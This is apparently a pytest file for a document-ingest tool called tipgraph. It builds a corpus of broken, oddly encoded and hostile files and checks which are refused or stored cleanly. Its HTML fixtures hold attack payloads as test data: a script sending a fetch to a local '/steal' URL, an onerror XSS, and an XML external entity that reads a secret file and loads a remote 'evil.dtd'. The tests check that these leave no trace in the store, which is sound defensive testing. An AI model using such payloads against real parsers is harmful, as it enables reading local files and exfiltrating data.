"""Bad documents among good ones: each bad one is refused with a line naming the file and
the reason, every good one is stored, memory stays bounded, and ``tipgraph ingest``
exits 1 saying how many were refused.

The corpus is generated here: empty, blank, binary, 50 MB of text, cp1251 and UTF-16
text, truncated and malformed HTML, HTML with scripts and an external entity, a page
listing ten thousand names. Files that vanish or become unreadable mid-run are in
``test_files_that_change_mid_run``.
"""
from __future__ import annotations

import random
import re
from pathlib import Path

import pytest

from .conftest import document_sources, export_nquads, good_document, run_tipgraph, write_good_documents

HUGE_BYTES = 50 * 1024 * 1024
#: Generous, yet low enough to notice the 50 MB file being read: a normal ingest of
#: this corpus peaks near 130 MB per process; reading and cleaning the big file whole
#: takes several times that.
RSS_LIMIT = 600_000_000
CYRILLIC_TITLE = "Министерство и МОМ обсудили защиту мигрантов"
SCRIPT_MARKER = "SCRIPT-ONLY-TEXT-91b2"
STYLE_MARKER = "STYLE-ONLY-TEXT-3c7d"

#: file name -> pattern the refusal reason must match
REFUSED = {
    "empty.txt": r"empty",
    "blank.txt": r"empty",
    "binary.txt": r"binary",
    "control-chars.txt": r"binary",
    "nul-bytes.txt": r"binary",
    "huge.txt": r"too large",
    "only-chrome.html": r"no usable text|empty",
}
#: files that are odd but readable: they must be stored
STORED_ODD = ["cp1251.txt", "utf16.txt", "utf16-nobom.txt", "truncated.html", "malformed.html",
              "scripts.html", "xxe.html", "ten-thousand-names.txt"]


def _meeting_html_body(n: int) -> str:
    return good_document(n).split("\n\n", 1)[1].replace("\n\n", "</p>\n<p>")


def make_bad_corpus(folder: Path, secret: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(20240611)
    (folder / "empty.txt").write_bytes(b"")
    (folder / "blank.txt").write_bytes(b"  \n\t\n\xc2\xa0 \n")
    (folder / "binary.txt").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(4096)) + b"\x00" * 64)
    (folder / "control-chars.txt").write_bytes(bytes(range(1, 9)) * 500 + b"a few words")
    # readable text but for two NUL bytes: NULs have no place in a literal
    (folder / "nul-bytes.txt").write_bytes(good_document(9).encode("utf-8").replace(b"held", b"he\x00l\x00d"))
    # 50 MB of press-release text: refused by its size, never read whole.
    chunk = (good_document(1) * 40).encode("utf-8")
    with (folder / "huge.txt").open("wb") as f:
        written = 0
        while written < HUGE_BYTES:
            f.write(chunk)
            written += len(chunk)
    (folder / "only-chrome.html").write_text(
        "<html><head><title></title><style>p{}</style></head><body><nav><a href='/'>Home</a></nav>"
        "<script>var x = 1;</script><footer>(c)</footer></body></html>", encoding="utf-8")

    # cp1251 (an old ministry site) and UTF-16 with and without a byte order mark
    body = good_document(0)
    (folder / "cp1251.txt").write_bytes(f"{CYRILLIC_TITLE}\n\n{body}".encode("cp1251"))
    (folder / "utf16.txt").write_bytes(f"{CYRILLIC_TITLE}\n\n{good_document(1)}".encode("utf-16"))
    (folder / "utf16-nobom.txt").write_bytes(good_document(2).encode("utf-16-le"))

    page = (f"<!DOCTYPE html><html><head><title>Partners meet</title></head><body><article>"
            f"<h1>Partners meet on border screening</h1><p>{_meeting_html_body(3)}</p>"
            f"<p>The meeting closed with a short statement to the press.</p></article></body></html>")
    (folder / "truncated.html").write_text(page[: page.index("</p>", page.index("held a working")) + 2], encoding="utf-8")
    (folder / "malformed.html").write_text(
        "<html><body><div><p>" + _meeting_html_body(4).replace("</p>\n<p>", "<p><b><i>")
        + "</div></span></td><p class=x id=>stray <a href='x>broken</a></table></html></body>", encoding="utf-8")
    (folder / "scripts.html").write_text(
        "<html><head><title>Partners meet</title><style>.x:before{content:'" + STYLE_MARKER + "'}</style>"
        "<script>document.write('<p>" + SCRIPT_MARKER + " The UNICEF held a working meeting with the Council "
        "of Europe.</p>'); fetch('http://127.0.0.1:9/steal')</script></head><body><article><p>"
        + _meeting_html_body(5) + "</p><script type='text/javascript'>/*<![CDATA[*/ var s = '" + SCRIPT_MARKER
        + "'; /*]]>*/</script><noscript>" + SCRIPT_MARKER + "</noscript></article>"
        "<img src=x onerror=\"alert('" + SCRIPT_MARKER + "')\"></body></html>", encoding="utf-8")
    (folder / "xxe.html").write_text(
        f'<?xml version="1.0"?>\n<!DOCTYPE html [\n  <!ENTITY xxe SYSTEM "file://{secret}">\n'
        f'  <!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;\n]>\n'
        f"<html><body><article><p>&xxe;</p><p>{_meeting_html_body(6)}</p><p>Reported: &xxe;</p>"
        f"</article></body></html>", encoding="utf-8")

    # a participants list of ten thousand private names (no titles, no roles)
    first = ["Anna", "Elena", "Ivan", "Pavel", "Marco", "Jean", "Amina", "Grace", "Lars", "Timur"]
    last = ["Petrova", "Rossi", "Dubois", "Haddad", "Mensah", "Novak", "Horvat", "Larsen", "Karimov", "Silva"]
    names = [f"{rng.choice(first)} {rng.choice(last)}-{i:05d}" for i in range(10_000)]
    (folder / "ten-thousand-names.txt").write_text(
        good_document(7) + "\nList of participants\n\n" + "\n".join(names) + "\n", encoding="utf-8")


@pytest.fixture(scope="module")
def bad_run(tmp_path_factory, secret_file):
    """One real ``tipgraph ingest`` over 8 good and 15 odd or bad documents."""
    root = tmp_path_factory.mktemp("bad-corpus")
    corpus = root / "corpus"
    good = write_good_documents(corpus, 8)
    make_bad_corpus(corpus, secret_file[0])
    store = root / "store"
    # No COLUMNS: the refusal lines must stay whole at the default console width.
    run = run_tipgraph("ingest", str(corpus), "--store", str(store), "--quiet", "--jobs", "2",
                       timeout=240, env={"COLUMNS": ""})
    return run, corpus, store, good


def test_exit_code_and_count_of_refused(bad_run):
    run, corpus, _, good = bad_run
    total = len(good) + len(REFUSED) + len(STORED_ODD)
    assert run.returncode == 1, run.stderr[-3000:]
    assert f"{len(REFUSED)} of {total} documents refused" in run.stderr


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_each_bad_document_gets_one_clear_line(bad_run, name):
    run, corpus, _, _ = bad_run
    path = (corpus / name).resolve().as_posix()
    lines = [line for line in run.stderr.splitlines() if path + ":" in line]
    assert len(lines) == 1, run.stderr[-3000:]
    m = re.match(r"^refused (\S+): (.+)$", lines[0].strip())
    assert m and m.group(1) == path
    assert re.search(REFUSED[name], m.group(2)), lines[0]


def test_good_and_odd_documents_are_all_stored(bad_run):
    _, corpus, store, good = bad_run
    stored = document_sources(store)
    expected = {p.resolve().as_posix() for p in good} | {(corpus / n).resolve().as_posix() for n in STORED_ODD}
    assert expected <= stored
    assert not {(corpus / n).resolve().as_posix() for n in REFUSED} & stored


def test_memory_stays_bounded(bad_run):
    """The 50 MB file is refused by its size, before it is read."""
    run, *_ = bad_run
    assert run.max_rss < RSS_LIMIT, f"peak RSS {run.max_rss / 1e6:.0f} MB"


def test_encodings_are_decoded_not_garbled(bad_run):
    _, _, store, _ = bad_run
    quads = "\n".join(export_nquads(store))
    assert quads.count(f'"{CYRILLIC_TITLE}"') >= 2  # the cp1251 and the UTF-16 document's titles


def test_scripts_styles_and_entities_leave_no_trace(bad_run, secret_file):
    _, _, store, _ = bad_run
    quads = "\n".join(export_nquads(store))
    assert SCRIPT_MARKER not in quads
    assert STYLE_MARKER not in quads
    assert secret_file[1] not in quads
    assert "&xxe;" not in quads and "evil.dtd" not in quads


def test_ten_thousand_private_names_make_no_person(bad_run):
    _, corpus, store, _ = bad_run
    from tipgraph.store.embedded import EmbeddedStore

    s = EmbeddedStore(store, read_only=True)
    try:
        rows = s.select(
            "PREFIX tip: <https://w3id.org/tipgraph/ontology#> PREFIX dcterms: <http://purl.org/dc/terms/> "
            "SELECT (COUNT(DISTINCT ?p) AS ?n) WHERE { ?d dcterms:source ?src . "
            "GRAPH ?d { ?p a tip:Person } FILTER(STRENDS(?src, 'ten-thousand-names.txt')) }"
        )
    finally:
        s.close()
    assert int(rows.rows[0]["n"]) == 0


def test_files_that_change_mid_run(tmp_path):
    """A file deleted, one replaced by a folder and one by a symlink loop after the run
    began: each is refused with its reason, the rest are stored, the run goes on."""
    from tipgraph.ingest import ingest_paths
    from tipgraph.store import open_store

    corpus = tmp_path / "corpus"
    write_good_documents(corpus, 6)
    (corpus / "a-first-empty.txt").write_bytes(b"")  # refused first: our cue to strike
    vanishing = corpus / "good-002.txt"
    to_folder = corpus / "good-003.txt"
    to_loop = corpus / "good-004.txt"
    struck = []

    def strike(outcome) -> None:
        if struck:
            return
        struck.append(outcome.path)
        vanishing.unlink()
        to_folder.unlink()
        to_folder.mkdir()
        to_loop.unlink()
        to_loop.symlink_to(to_loop)

    store = open_store(tmp_path / "store")
    try:
        report = ingest_paths(store, [corpus], jobs=1, progress=strike)
    finally:
        store.close()
    reasons = {Path(o.path).name: o.reason for o in report.refused}
    assert set(reasons) == {"a-first-empty.txt", "good-002.txt", "good-003.txt", "good-004.txt"}
    assert "no such file" in reasons["good-002.txt"]
    assert "directory" in reasons["good-003.txt"]
    assert reasons["good-004.txt"]  # "cannot read: Too many levels of symbolic links"
    assert report.stored == 3
    stored = {Path(s).name for s in document_sources(tmp_path / "store")}
    assert stored == {"good-000.txt", "good-001.txt", "good-005.txt"}


@pytest.mark.skipif(hasattr(__import__("os"), "geteuid") and __import__("os").geteuid() == 0,
                    reason="root reads files whatever their mode")
def test_unreadable_file_is_refused(tmp_path):
    from tipgraph.ingest import ingest_paths
    from tipgraph.store import open_store

    corpus = tmp_path / "corpus"
    write_good_documents(corpus, 2)
    locked = corpus / "good-001.txt"
    locked.chmod(0)
    store = open_store(tmp_path / "store")
    try:
        report = ingest_paths(store, [corpus])
    finally:
        store.close()
        locked.chmod(0o644)
    assert [(Path(o.path).name, o.reason) for o in report.refused] == [("good-001.txt", "permission denied")]
